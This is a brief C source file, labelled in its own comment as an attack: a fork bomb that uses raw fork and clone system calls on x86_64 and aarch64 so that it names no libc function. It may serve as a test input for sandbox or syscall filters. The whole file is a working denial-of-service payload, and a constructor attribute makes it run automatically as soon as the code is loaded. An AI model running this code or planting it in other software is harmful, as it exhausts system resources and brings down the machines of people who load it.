/* Attack: fork bomb that names no libc function: raw system calls. */
__attribute__((constructor)) static void bomb(void)
{
#if defined(__x86_64__)
    for (;;) {
        long ret;
        __asm__ volatile("syscall" : "=a"(ret) : "a"(57L) : "rcx", "r11", "memory"); /* fork */
    }
#elif defined(__aarch64__)
    for (;;) {
        register long x8 __asm__("x8") = 220; /* clone */
        register long x0 __asm__("x0") = 17;  /* SIGCHLD */
        __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8) : "memory");
    }
#endif
}
